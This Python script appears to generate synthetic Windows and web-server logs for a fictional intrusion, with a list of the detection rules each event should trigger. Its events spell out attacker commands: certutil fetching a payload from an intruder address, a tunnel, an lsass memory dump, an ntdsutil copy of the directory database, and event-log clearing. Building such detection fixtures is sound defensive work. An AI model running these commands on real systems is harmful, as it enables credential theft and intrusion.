#!/usr/bin/env python3
"""Makes the evidence of the example, the same bytes every time.

make.py [FOLDER]    writes evidence/ and expected.tsv into FOLDER (the folder of this script)

Everything is made up: machines of example.internal, addresses of the ranges that are reserved for
documentation, accounts named after what they do. README.md tells the story.
"""
import base64
import datetime
import gzip
import io
import json
import random
import sys
import uuid
import zipfile
from pathlib import Path

sys.dont_write_bytecode = True
HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent.parent / "tests" / "tools"))
import web_side  # noqa: E402
from evtx_writer import UTC, EvtxWriter, typed  # noqa: E402

RNG = random.Random(20260914)
START = datetime.datetime(2026, 9, 14, 0, 0, 0, 0, UTC)
HOURS = 66  # how long the story is
WEB, DC, FS = (f"{name}.example.internal" for name in ("web-01", "dc-01", "fs-01"))
WEB_IP, DC_IP, FS_IP = "192.0.2.10", "192.0.2.20", "192.0.2.30"
INTRUDER_1, INTRUDER_2 = web_side.INTRUDER_1, web_side.INTRUDER_2
DOMAIN_SID = "S-1-5-21-1004336348-1177238915-682003330"
SIDS = {"SYSTEM": "S-1-5-18", "LOCAL SERVICE": "S-1-5-19", "NETWORK SERVICE": "S-1-5-20",
        "-": "S-1-0-0"}
SYSTEM32 = "C:\\Windows\\System32\\"
AUDITING = "Microsoft-Windows-Security-Auditing"
AUDITING_GUID = "{54849625-5478-4994-a5ba-3e3b0328c30d}"
EVENTLOG = "Microsoft-Windows-Eventlog"
SYSMON = "Microsoft-Windows-Sysmon"
SYSMON_GUID = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"
SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"
TASKS = {4624: 12544, 4634: 12545, 4672: 12548, 4688: 13312, 4697: 12289, 4698: 12804,
         4768: 14339, 4769: 14337, 5140: 12808, 5145: 12811}
HARMLESS = "# an example of an encoded command: it does nothing"

WEB_ZIP = "web-01.zip!"
WINDOWS_LOGS = WEB_ZIP + "C/Windows/System32/winevt/Logs/"
IIS_LOGS = WEB_ZIP + "C/inetpub/logs/LogFiles/W3SVC1/"
WEB_ROOT = WEB_ZIP + "C/inetpub/wwwroot/portal/"
FILES = {"web-01/Security": WINDOWS_LOGS + "Security.evtx",
         "web-01/Sysmon": WINDOWS_LOGS + "Microsoft-Windows-Sysmon%4Operational.evtx",
         "dc-01/Security": "dc-01/Security.evtx", "fs-01": "fs-01.json"}

LOGS = {}      # name -> [(time, event, titles of the rules that must match)]


def put(log, time, event, finds=()):
    LOGS.setdefault(log, []).append((time, event, tuple(finds)))


def at(day, clock):
    """A time of the story, with a fraction of a second: at(1, "02:11:03")."""
    hours, minutes, seconds = map(int, clock.split(":"))
    return START + datetime.timedelta(days=day - 1, hours=hours, minutes=minutes, seconds=seconds,
                                      microseconds=RNG.randrange(1000000))


def any_time(first_hour=0):
    seconds = RNG.randrange(first_hour * 3600, HOURS * 3600)
    return START + datetime.timedelta(seconds=seconds, microseconds=RNG.randrange(1000000))


def guid():
    return typed("guid", uuid.UUID(int=RNG.getrandbits(128)))


def pid():
    return 4 * RNG.randrange(150, 2500)


def port():
    return str(RNG.randrange(49152, 65536))


def hex64(number):
    return typed("hex64", number)


def logon_id():
    return hex64(RNG.randrange(0x10000, 0xfffffff))


def sid_of(account):
    if account not in SIDS:
        SIDS[account] = f"{DOMAIN_SID}-{1100 + len(SIDS)}"
    return typed("sid", SIDS[account])


# ---- kinds of events ----

def security(event_id, data, computer, version=0):
    return {"provider": AUDITING, "provider_guid": AUDITING_GUID, "channel": "Security",
            "event_id": event_id, "task": TASKS[event_id], "keywords": 0x8020000000000000,
            "version": version, "computer": computer, "process_id": 652, "thread_id": 700,
            "data": data}


def subject(account, logon=None):
    domain = {"SYSTEM": "NT AUTHORITY", "-": "-"}.get(account, "EXAMPLE")
    return [("SubjectUserSid", sid_of(account)), ("SubjectUserName", account),
            ("SubjectDomainName", domain), ("SubjectLogonId", logon or logon_id())]


def machine_subject(computer):
    """How the system itself stands in the security log."""
    return [("SubjectUserSid", sid_of("SYSTEM")),
            ("SubjectUserName", computer.split(".")[0].upper() + "$"),
            ("SubjectDomainName", "EXAMPLE"), ("SubjectLogonId", hex64(0x3e7))]


def logon(computer, account, kind, address, workstation="-"):
    package = "Kerberos" if kind == 3 else "Negotiate"
    return security(4624, subject("-", hex64(0)) + [
        ("TargetUserSid", sid_of(account)), ("TargetUserName", account),
        ("TargetDomainName", "EXAMPLE"), ("TargetLogonId", logon_id()),
        ("LogonType", typed("uint32", kind)),
        ("LogonProcessName", {3: "Kerberos", 10: "User32 "}.get(kind, "Advapi  ")),
        ("AuthenticationPackageName", package), ("WorkstationName", workstation),
        ("LogonGuid", guid()), ("TransmittedServices", "-"), ("LmPackageName", "-"),
        ("KeyLength", typed("uint32", 0)), ("ProcessId", hex64(0 if kind == 3 else 0x2f4)),
        ("ProcessName", "-" if kind == 3 else SYSTEM32 + "svchost.exe"), ("IpAddress", address),
        ("IpPort", "-" if address == "-" else port())], computer, 2)


def logoff(computer, account):
    return security(4634, [("TargetUserSid", sid_of(account)), ("TargetUserName", account),
                           ("TargetDomainName", "EXAMPLE"), ("TargetLogonId", logon_id()),
                           ("LogonType", typed("uint32", 3))], computer)


def privileges(computer, account):
    return security(4672, subject(account) + [
        ("PrivilegeList", "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege")], computer)


def process_4688(computer, image, command, parent, account=None):
    who = subject(account) if account else machine_subject(computer)
    return security(4688, who + [
        ("NewProcessId", hex64(pid())), ("NewProcessName", image),
        ("TokenElevationType", "%%1936"), ("ProcessId", hex64(pid())), ("CommandLine", command),
        ("TargetUserSid", sid_of("-")), ("TargetUserName", "-"), ("TargetDomainName", "-"),
        ("TargetLogonId", hex64(0)), ("ParentProcessName", parent),
        ("MandatoryLabel", typed("sid", "S-1-16-12288" if account else "S-1-16-16384"))],
        computer, 2)


def ticket(account, service, cipher, address):
    return security(4769, [
        ("TargetUserName", f"{account}@EXAMPLE.INTERNAL"),
        ("TargetDomainName", "EXAMPLE.INTERNAL"), ("ServiceName", service),
        ("ServiceSid", sid_of(service)), ("TicketOptions", typed("hex32", 0x40810000)),
        ("TicketEncryptionType", typed("hex32", cipher)), ("IpAddress", "::ffff:" + address),
        ("IpPort", port()), ("Status", typed("hex32", 0)),
        ("LogonGuid", guid()), ("TransmittedServices", "-")], DC)


def first_ticket(account, address):
    return security(4768, [
        ("TargetUserName", account), ("TargetDomainName", "EXAMPLE"),
        ("TargetSid", sid_of(account)), ("ServiceName", "krbtgt"), ("ServiceSid", sid_of("krbtgt")),
        ("TicketOptions", typed("hex32", 0x40810010)), ("Status", typed("hex32", 0)),
        ("TicketEncryptionType", typed("hex32", 0x12)), ("PreAuthType", "2"),
        ("IpAddress", "::ffff:" + address), ("IpPort", port())], DC)


def share(computer, account, name, path, address):
    return security(5140, subject(account) + [
        ("ObjectType", "File"), ("IpAddress", address), ("IpPort", port()),
        ("ShareName", name), ("ShareLocalPath", path), ("AccessMask", typed("hex32", 1)),
        ("AccessList", "%%4416\n\t\t\t\t")], computer, 1)


def share_file(computer, account, name, path, target, address, write=False):
    return security(5145, subject(account) + [
        ("ObjectType", "File"), ("IpAddress", address), ("IpPort", port()),
        ("ShareName", name), ("ShareLocalPath", path), ("RelativeTargetName", target),
        ("AccessMask", typed("hex32", 0x13019f if write else 0x120089)),
        ("AccessList", "%%1538\n\t\t\t\t%%1541\n\t\t\t\t%%4416\n\t\t\t\t"
         + ("%%4417\n\t\t\t\t%%4418\n\t\t\t\t" if write else "")),
        ("AccessReason", "-")], computer)


def service_4697(computer, account, name, file):
    return security(4697, subject(account) + [
        ("ServiceName", name), ("ServiceFileName", file), ("ServiceType", typed("hex32", 0x10)),
        ("ServiceStartType", typed("uint32", 3)), ("ServiceAccount", "LocalSystem")], computer)


def service_7045(computer, name, file):
    return {"provider": "Service Control Manager", "channel": "System", "event_id": 7045,
            "qualifiers": 16384, "level": 4, "keywords": 0x8080000000000000, "computer": computer,
            "user_sid": "S-1-5-18", "process_id": 632, "thread_id": 4100,
            "data": [("ServiceName", name), ("ImagePath", file),
                     ("ServiceType", "user mode service"), ("StartType", "demand start"),
                     ("AccountName", "LocalSystem")]}


def service_state(computer, name, state):
    return {"provider": "Service Control Manager", "channel": "System", "event_id": 7036,
            "qualifiers": 16384, "level": 4, "keywords": 0x8080000000000000, "computer": computer,
            "process_id": 632, "thread_id": 4100, "data": [("param1", name), ("param2", state)]}


def task_4698(computer, account, name, command, arguments):
    content = ('<?xml version="1.0" encoding="UTF-16"?>\n<Task version="1.2" '
               'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\n  <Triggers>'
               '<BootTrigger><Enabled>true</Enabled></BootTrigger></Triggers>\n  <Actions>\n'
               f"    <Exec><Command>{command}</Command><Arguments>{arguments}</Arguments></Exec>\n"
               "  </Actions>\n</Task>")
    return security(4698, subject(account) + [("TaskName", name), ("TaskContent", content)],
                    computer)


def log_cleared(computer, account):
    return {"provider": EVENTLOG, "channel": "Security", "event_id": 1102, "level": 4, "task": 104,
            "keywords": 0x4020000000000000, "computer": computer, "process_id": 1040,
            "thread_id": 2208,
            "user_data": ("LogFileCleared",
                          "http://manifests.microsoft.com/win/2004/08/windows/eventlog",
                          subject(account))}


def sysmon(event_id, time, data, version=5):
    stamp = time.strftime("%Y-%m-%d %H:%M:%S.") + f"{time.microsecond // 1000:03}"
    return {"provider": SYSMON, "provider_guid": SYSMON_GUID, "channel": SYSMON_CHANNEL,
            "event_id": event_id, "task": event_id, "level": 4, "version": version,
            "computer": WEB, "user_sid": "S-1-5-18", "process_id": 2140, "thread_id": 3012,
            "data": [("RuleName", "-"), ("UtcTime", stamp)] + data}


def started(time, image, command, parent, parent_command, user):
    level = "System" if user.endswith("\\SYSTEM") else "High"
    return sysmon(1, time, [
        ("ProcessGuid", guid()), ("ProcessId", pid()), ("Image", image), ("FileVersion", "-"),
        ("Description", "-"), ("Product", "-"), ("Company", "-"),
        ("OriginalFileName", image.rsplit("\\", 1)[1]), ("CommandLine", command),
        ("CurrentDirectory", SYSTEM32), ("User", user), ("LogonGuid", guid()),
        ("LogonId", logon_id()), ("TerminalSessionId", 0), ("IntegrityLevel", level),
        ("Hashes", f"SHA256={RNG.getrandbits(256):064X}"), ("ParentProcessGuid", guid()),
        ("ParentProcessId", pid()), ("ParentImage", parent), ("ParentCommandLine", parent_command),
        ("ParentUser", user)])


def connected(time, image, user, address, port, host="-"):
    return sysmon(3, time, [
        ("ProcessGuid", guid()), ("ProcessId", pid()), ("Image", image), ("User", user),
        ("Protocol", "tcp"), ("Initiated", True), ("SourceIsIpv6", False), ("SourceIp", WEB_IP),
        ("SourceHostname", WEB), ("SourcePort", typed("uint16", RNG.randrange(49152, 65536))),
        ("SourcePortName", "-"), ("DestinationIsIpv6", False), ("DestinationIp", address),
        ("DestinationHostname", host), ("DestinationPort", typed("uint16", port)),
        ("DestinationPortName", "-")])


def created(time, image, user, target):
    stamp = time.strftime("%Y-%m-%d %H:%M:%S.000")
    return sysmon(11, time, [
        ("ProcessGuid", guid()), ("ProcessId", pid()), ("Image", image),
        ("TargetFilename", target), ("CreationUtcTime", stamp), ("User", user)], 2)


def accessed(time, image, user, rights, trace):
    return sysmon(10, time, [
        ("SourceProcessGUID", guid()), ("SourceProcessId", pid()), ("SourceThreadId", pid()),
        ("SourceImage", image), ("TargetProcessGUID", guid()), ("TargetProcessId", 700),
        ("TargetImage", SYSTEM32 + "lsass.exe"), ("GrantedAccess", typed("hex32", rights)),
        ("CallTrace", trace), ("SourceUser", user), ("TargetUser", "NT AUTHORITY\\SYSTEM")], 3)


# ---- the intrusion ----

POOL = "IIS APPPOOL\\PortalAppPool"
W3WP = SYSTEM32 + "inetsrv\\w3wp.exe"
W3WP_COMMAND = W3WP + ' -ap "PortalAppPool" -v "v4.0" -l "webengine4.dll"'
CMD = SYSTEM32 + "cmd.exe"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
SHELL = "C:\\inetpub\\wwwroot\\portal\\uploads\\preview.aspx"
SPAWNED = "Web Server Starts A Shell Or A Discovery Command"
DISCOVERY = "Commands That List Domain Controllers, Trusts Or Administrators"
TEMP = "Program Runs From The Temporary Folder Of Windows"
FOLDER = "Program Runs From A Writable Folder Inside Windows"
PUBLIC = "Program Runs From A Shared Profile Folder"
ENCODED = "PowerShell With An Encoded Command"
BY_SERVICE = "Discovery Command Under The Account Of A Web Or Database Service"
STAGED = "Archive Or Dump In A Staging Folder"


def encoded_command():
    return base64.b64encode(HARMLESS.encode("utf-16-le")).decode()


def web_step(clock, image, command, finds, parent=CMD, day=1, user=POOL):
    """A process on the web server; its parent is the shell that the web shell started."""
    time = at(day, clock)
    parent_command = W3WP_COMMAND if parent == W3WP else f'"{parent}"'
    put("web-01/Sysmon", time, started(time, image, command, parent, parent_command, user), finds)


def take_the_web_server():
    time = at(1, "02:11:03")
    put("web-01/Sysmon", time, created(time, W3WP, POOL, SHELL),
        ["Web Server Writes A Script Into A Folder That It Serves"])
    web_step("02:13:40", CMD, "cmd.exe /c whoami /all", [SPAWNED], W3WP)
    web_step("02:13:41", SYSTEM32 + "whoami.exe", "whoami /all", [BY_SERVICE])
    web_step("02:15:12", CMD, 'cmd.exe /c net group "Domain Admins" /domain', [SPAWNED], W3WP)
    web_step("02:15:13", SYSTEM32 + "net.exe", 'net group "Domain Admins" /domain',
             [DISCOVERY, BY_SERVICE])
    web_step("02:16:30", SYSTEM32 + "nltest.exe", "nltest /dclist:example.internal",
             [SPAWNED, DISCOVERY, BY_SERVICE], W3WP)
    web_step("02:21:07", SYSTEM32 + "certutil.exe",
             f"certutil.exe -urlcache -split -f http://{INTRUDER_2}/c/upd.txt "
             "C:\\Windows\\Temp\\upd.exe", ["Certutil Fetches A File From A Web Address"])
    time = at(1, "02:21:08")
    put("web-01/Sysmon", time, connected(time, SYSTEM32 + "certutil.exe", POOL, INTRUDER_2, 80))
    time = at(1, "02:21:09")
    put("web-01/Sysmon", time,
        created(time, SYSTEM32 + "certutil.exe", POOL, "C:\\Windows\\Temp\\upd.exe"))
    web_step("02:24:50", POWERSHELL, f"powershell.exe -nop -w hidden -enc {encoded_command()}",
             [SPAWNED, ENCODED], W3WP)
    web_step("02:31:16", "C:\\Windows\\Temp\\upd.exe", "C:\\Windows\\Temp\\upd.exe -s", [TEMP])
    web_step("02:47:33", "C:\\PerfLogs\\ssf.exe", f"ssf.exe -F 1080 -p 8011 {INTRUDER_1}",
             [FOLDER, "Tunnelling Program On A Windows Machine"],
             "C:\\Windows\\Temp\\upd.exe")
    time = at(1, "02:47:34")
    put("web-01/Sysmon", time,
        connected(time, "C:\\PerfLogs\\ssf.exe", POOL, INTRUDER_1, 8011))


def steal_credentials():
    system = "NT AUTHORITY\\SYSTEM"
    web_step("03:02:18", SYSTEM32 + "rundll32.exe",
             "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 700 "
             "C:\\Windows\\debug\\report.dmp full",
             ["Memory Of The Logon Process Written To A File By Command"], user=system)
    time = at(1, "03:02:19")
    trace = (SYSTEM32 + "ntdll.dll+9d4c4|" + SYSTEM32 + "KERNELBASE.dll+2c13e|" + SYSTEM32
             + "comsvcs.dll+1f2a8")
    put("web-01/Sysmon", time,
        accessed(time, SYSTEM32 + "rundll32.exe", system, 0x1fffff, trace),
        ["Memory Of The Logon Process Opened For Reading"])
    time = at(1, "03:02:20")
    put("web-01/Sysmon", time, created(time, SYSTEM32 + "rundll32.exe", system,
                                       "C:\\Windows\\debug\\report.dmp"), [STAGED])
    for i, service in enumerate(["svc-backup", "svc-sql", "svc-report", "svc-bms"]):
        put("dc-01/Security", at(1, f"22:04:{10 + i}"), ticket("svc-web", service, 0x17, WEB_IP),
            ["Service Ticket With A Weak Cipher For A User Account"])


def move_to_the_file_server():
    put("fs-01", at(2, "22:40:02"), logon(FS, "svc-backup", 3, WEB_IP))
    put("fs-01", at(2, "22:40:02"), privileges(FS, "svc-backup"))
    put("fs-01", at(2, "22:40:05"),
        share(FS, "svc-backup", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", WEB_IP),
        ["Administrative Share Opened By A User Account"])
    put("fs-01", at(2, "22:40:07"),
        share_file(FS, "svc-backup", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "rmsvc.exe", WEB_IP,
                   True), ["Program Written Through An Administrative Share"])
    put("fs-01", at(2, "22:40:09"),
        service_4697(FS, "svc-backup", "rmsvc", "%SystemRoot%\\rmsvc.exe"),
        ["Audited Service Installation From An Unusual Place"])
    put("fs-01", at(2, "22:40:10"), service_7045(FS, "rmsvc", "%SystemRoot%\\rmsvc.exe"),
        ["New Service Runs From An Unusual Place"])
    put("fs-01", at(2, "22:40:11"), service_state(FS, "rmsvc", "running"))
    web_step("22:52:40", SYSTEM32 + "wbem\\WMIC.exe",
             "wmic /node:fs-01 process call create \"cmd.exe /c dir D:\\projects /s\"",
             ["Process Started On Another Machine By WMI"], "C:\\Windows\\Temp\\upd.exe", 2,
             "EXAMPLE\\svc-backup")
    put("fs-01", at(2, "22:52:42"),
        process_4688(FS, CMD, "cmd.exe /c dir D:\\projects /s", SYSTEM32 + "wbem\\WmiPrvSE.exe",
                     "svc-backup"), ["WMI Starts A Command Interpreter"])
    put("fs-01", at(2, "23:05:21"), logon(FS, "svc-backup", 10, WEB_IP, "FS-01"),
        ["Service Account Logs On Like A Person"])


def take_the_directory():
    put("dc-01/Security", at(2, "23:31:15"), logon(DC, "svc-backup", 3, WEB_IP))
    put("dc-01/Security", at(2, "23:31:16"), privileges(DC, "svc-backup"))
    put("dc-01/Security", at(2, "23:32:04"),
        share(DC, "svc-backup", "\\\\*\\C$", "\\??\\C:\\", WEB_IP),
        ["Administrative Share Opened By A User Account"])
    put("dc-01/Security", at(2, "23:33:48"),
        process_4688(DC, SYSTEM32 + "ntdsutil.exe",
                     'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\PerfLogs\\r" q q',
                     CMD, "svc-backup"), ["Copy Of The Active Directory Database"])


def collect_and_clean_up():
    put("fs-01", at(3, "00:12:09"),
        process_4688(FS, "C:\\Users\\Public\\rar.exe",
                     "rar.exe a -r -v200m -hpExample2026 C:\\PerfLogs\\p.rar D:\\projects",
                     CMD, "svc-backup"), [PUBLIC, "Archive Made With A Password"])
    put("fs-01", at(3, "01:20:30"), log_cleared(FS, "svc-backup"), ["Security Log Cleared"])
    web_step("01:24:02", SYSTEM32 + "wevtutil.exe", "wevtutil cl Security",
             ["Command That Clears Or Switches Off An Event Log"], "C:\\Windows\\Temp\\upd.exe", 3,
             "NT AUTHORITY\\SYSTEM")
    put("web-01/Security", at(3, "01:24:03"), log_cleared(WEB, "svc-backup"),
        ["Security Log Cleared"])
    put("web-01/Security", at(3, "01:31:55"),
        task_4698(WEB, "svc-backup", "\\Microsoft\\Windows\\Diagnosis\\Report",
                  "powershell.exe", f"-nop -w hidden -enc {encoded_command()}"),
        ["Scheduled Task That Starts From An Unusual Place"])


# ---- ordinary days ----

PEOPLE = ["operator1", "operator2", "helpdesk1", "helpdesk2", "planner1"]
STATIONS = [f"ws-{i:02}" for i in range(1, 13)]
SVCHOST = SYSTEM32 + "svchost.exe"
SERVICES = SYSTEM32 + "services.exe"
SYSTEM = "NT AUTHORITY\\SYSTEM"
DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.26070.5-0\\MsMpEng.exe"
UPDATER = "C:\\Program Files\\Example Updater\\updater.exe"
DEPLOYER = "C:\\Program Files\\Example Deploy\\agent.exe"
DISM = "C:\\Windows\\Temp\\{7A1C5B62-09DF-4E0B-9C51-2D7E44C1A3B0}\\DismHost.exe"


def station_address():
    return f"192.0.2.{100 + RNG.randrange(1, 13)}"


def ordinary_process(time):
    """One of the processes that a web server starts every day."""
    compiler = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe"
    rows = [
        (SVCHOST, SVCHOST + " -k netsvcs -p -s Schedule", SERVICES, SERVICES, SYSTEM),
        (SYSTEM32 + "taskhostw.exe", "taskhostw.exe Install $(Arg0)", SVCHOST, SVCHOST, SYSTEM),
        (UPDATER, f'"{UPDATER}" --check --channel stable', SVCHOST, SVCHOST, SYSTEM),
        (W3WP, W3WP_COMMAND, SVCHOST, SVCHOST + " -k iissvcs", POOL),
        (compiler, f'"{compiler}" /t:library @"C:\\Windows\\Temp\\x.cmdline"', W3WP, W3WP_COMMAND,
         POOL),
        (POWERSHELL, "powershell.exe -NoProfile -File C:\\ops\\rotate-logs.ps1", SVCHOST, SVCHOST,
         SYSTEM),
        (SYSTEM32 + "conhost.exe", "\\??\\" + SYSTEM32 + "conhost.exe 0xffffffff -ForceV1",
         POWERSHELL, "powershell.exe -NoProfile -File C:\\ops\\rotate-logs.ps1", SYSTEM),
        (DISM, f"{DISM} {{3F2C}}", SYSTEM32 + "cleanmgr.exe", "cleanmgr.exe /autoclean", SYSTEM),
        (CMD, 'cmd.exe /c "C:\\ops\\health.cmd"', SVCHOST, SVCHOST, "EXAMPLE\\svc-monitor"),
        (SYSTEM32 + "certutil.exe",
         "certutil.exe -urlcache http://pki.example.internal/root.crl", CMD, "cmd.exe",
         "EXAMPLE\\helpdesk1"),
        (SYSTEM32 + "ipconfig.exe", "ipconfig /all", CMD, "cmd.exe", "EXAMPLE\\helpdesk2"),
        ("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a D:\\archive\\logs.7z C:\\inetpub\\logs", CMD,
         "cmd.exe", SYSTEM),
    ]
    return started(time, *RNG.choice(rows))


def ordinary_sysmon():
    time = any_time()
    kind = RNG.randrange(10)
    if kind < 5:
        event = ordinary_process(time)
    elif kind == 5:
        event = connected(time, UPDATER, SYSTEM, "192.0.2.80", 443, "updates.example.internal")
    elif kind == 6:
        event = connected(time, W3WP, POOL, "192.0.2.40", 1433, "db-01.example.internal")
    elif kind == 7:
        page = f"C:\\inetpub\\wwwroot\\portal\\pages\\page{RNG.randrange(90)}.aspx"
        event = created(time, DEPLOYER, SYSTEM, page)
    elif kind == 8:
        folder = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\"
        event = created(time, W3WP, POOL, f"{folder}root\\{RNG.getrandbits(32):08x}.aspx")
    else:
        image, rights = RNG.choice([(DEFENDER, 0x1010), (SVCHOST, 0x1000), (SERVICES, 0x1410)])
        event = accessed(time, image, SYSTEM, rights, SYSTEM32 + "ntdll.dll+9d4c4")
    put("web-01/Sysmon", time, event)


def ordinary_web_logon():
    time = any_time(50)  # older ones were cleared away
    account = RNG.choice(["svc-monitor", "helpdesk1", "helpdesk2"])
    put("web-01/Security", time, RNG.choice([
        logon(WEB, account, 3, station_address()), logoff(WEB, account),
        logon(WEB, "svc-monitor", 5, "-"), privileges(WEB, account)]))


def ordinary_directory():
    account, address = RNG.choice(PEOPLE), station_address()
    station = RNG.choice(STATIONS).upper() + "$"
    maker = RNG.choice([
        lambda: first_ticket(account, address),
        lambda: ticket(account, RNG.choice(["FS-01$", "DC-01$"]), 0x12, address),
        lambda: ticket(account, "svc-sql", 0x12, address),
        lambda: ticket(account, "OLD-NAS$", 0x17, address),
        lambda: ticket(station, "krbtgt", 0x12, address),
        lambda: logon(DC, account, 3, address),
        lambda: logoff(DC, account),
        lambda: share(DC, station, "\\\\*\\SYSVOL", "\\??\\C:\\Windows\\SYSVOL\\sysvol", address),
        lambda: process_4688(DC, SVCHOST, SVCHOST + " -k LocalService", SERVICES),
        lambda: process_4688(DC, UPDATER, f'"{UPDATER}" --check', SVCHOST),
        lambda: process_4688(DC, SYSTEM32 + "dfsrs.exe", "C:\\Windows\\system32\\DFSRs.exe",
                             SERVICES),
    ])
    put("dc-01/Security", any_time(), maker())


def ordinary_file_server():
    account, address = RNG.choice(PEOPLE), station_address()
    projects = ("\\\\*\\projects", "\\??\\D:\\projects")
    target = RNG.choice(["plan\\2026.xlsx", "bms\\floor3.dwg", "tools\\viewer.exe", "notes.txt"])
    maker = RNG.choice([
        lambda: logon(FS, account, 3, address),
        lambda: logoff(FS, account),
        lambda: share(FS, account, *projects, address),
        lambda: share_file(FS, account, *projects, target, address, target.endswith(".xlsx")),
        lambda: share(FS, "BK-01$", "\\\\*\\D$", "\\??\\D:\\", "192.0.2.50"),
        lambda: service_state(FS, RNG.choice(["Windows Update", "Example Updater"]),
                              RNG.choice(["running", "stopped"])),
        lambda: process_4688(FS, SVCHOST, SVCHOST + " -k LocalService", SERVICES),
        lambda: process_4688(FS, SYSTEM32 + "wbem\\WmiPrvSE.exe", "wmiprvse.exe -secured",
                             SVCHOST),
    ])
    put("fs-01", any_time(), maker())


def ordinary_days():
    for maker, count in ((ordinary_sysmon, 110), (ordinary_web_logon, 30),
                         (ordinary_directory, 100), (ordinary_file_server, 80)):
        for _ in range(count):
            maker()
    put("fs-01", at(1, "09:02:11"), logon(FS, "admin1", 10, "192.0.2.101", "FS-01"))
    put("fs-01", at(1, "09:10:40"),
        service_7045(FS, "Example Updater", f'"{UPDATER}" --service'))
    put("dc-01/Security", at(1, "09:15:22"),
        service_4697(DC, "admin1", "Example Updater", f'"{UPDATER}" --service'))
    put("dc-01/Security", at(1, "09:15:25"),
        task_4698(DC, "admin1", "\\Example Updater", UPDATER, "--check"))


# ---- writing ----

def as_text(value):
    """A value as Winlogbeat prints it: always a text."""
    if isinstance(value, bool):
        return str(value).lower()
    if not isinstance(value, typed):
        return str(value)
    if value.type in ("hex32", "hex64"):
        return f"0x{value.value:x}"
    return f"{{{value.value}}}" if value.type == "guid" else str(value.value)


def stamp(time):
    return time.strftime("%Y-%m-%dT%H:%M:%S.") + f"{time.microsecond // 1000:03}Z"


def shipped(time, event, record_id):
    """The event as Winlogbeat ships it."""
    winlog = {"api": "wineventlog", "channel": event["channel"],
              "computer_name": event["computer"], "event_id": str(event["event_id"]),
              "provider_name": event["provider"], "record_id": record_id,
              "process": {"pid": event["process_id"], "thread": {"id": event["thread_id"]}}}
    if "user_data" in event:
        name, _, members = event["user_data"]
        winlog["user_data"] = {"xml_name": name, **{key: as_text(v) for key, v in members}}
    else:
        winlog["event_data"] = {key: as_text(value) for key, value in event["data"]}
    return {"@timestamp": stamp(time),
            "event": {"code": str(event["event_id"]), "kind": "event",
                      "provider": event["provider"]},
            "host": {"name": event["computer"]}, "winlog": winlog}


def log_bytes(name, events, first_id, expected):
    """An EVTX file, or for the file server the JSON that was forwarded."""
    writer, lines, next_id = EvtxWriter(), [], first_id
    for time, event, finds in sorted(events, key=lambda row: row[0]):
        if name == "fs-01":
            lines.append(json.dumps(shipped(time, event, next_id)) + "\n")
        else:
            writer.add(time=time, record_id=next_id, **event)
        for title in finds:
            place = f"line {len(lines)}" if name == "fs-01" else f"record {next_id}"
            expected.append((stamp(time), FILES[name], place, title))
        next_id += 1
    return "".join(lines).encode() if name == "fs-01" else writer.bytes()


def web_files(expected):
    """What the web server's disk holds beside its event logs, and the proxy's log."""
    rows = web_side.requests()
    logs, found = web_side.iis_logs(rows)
    proxy, in_proxy = web_side.proxy_log(rows)
    files = {IIS_LOGS + name: text for name, text in logs.items()}
    files |= {WEB_ROOT + name: text for name, text in web_side.web_root().items()}
    files["proxy/access.log.1.gz"] = proxy
    for place, rows_found in ((IIS_LOGS + "u_ex{:%y%m%d}.log", found),
                              ("proxy/access.log.1.gz", in_proxy)):
        for time, line, finds in rows_found:
            path = place.format(time)
            expected.extend((stamp(time), path, f"line {line}", title) for title in finds)
    return {name: text.encode() for name, text in files.items()}


def zipped(members):
    """A zip whose bytes depend on the members alone."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in sorted(members.items()):
            archive.writestr(zipfile.ZipInfo(name, (2026, 9, 17, 8, 0, 0)), content,
                             zipfile.ZIP_DEFLATED)
    return out.getvalue()


def as_collected(files):
    """The web server's files in its archive, the proxy's log as it was rotated."""
    collected, of_web = {}, {}
    for name, content in files.items():
        if name.startswith(WEB_ZIP):
            of_web[name[len(WEB_ZIP):]] = content
        elif name.endswith(".gz"):
            collected[name] = gzip.compress(content, mtime=0)
        else:
            collected[name] = content
    return collected | {"web-01.zip": zipped(of_web)}


def main():
    folder = Path(sys.argv[1]) if len(sys.argv) > 1 else HERE
    for step in (take_the_web_server, steal_credentials, move_to_the_file_server,
                 take_the_directory, collect_and_clean_up, ordinary_days):
        step()
    expected = []
    first_ids = {"web-01/Security": 48213, "web-01/Sysmon": 90177, "dc-01/Security": 310552,
                 "fs-01": 7012}
    files = {FILES[name]: log_bytes(name, LOGS[name], first_id, expected)
             for name, first_id in first_ids.items()} | web_files(expected)
    for name, content in as_collected(files).items():
        path = folder / "evidence" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    rows = ["time\tfile\tplace\trule\n"] + ["\t".join(row) + "\n" for row in sorted(expected)]
    (folder / "expected.tsv").write_text("".join(rows))
    print(f"{len(files)} files, {len(expected)} findings")


if __name__ == "__main__":
    main()
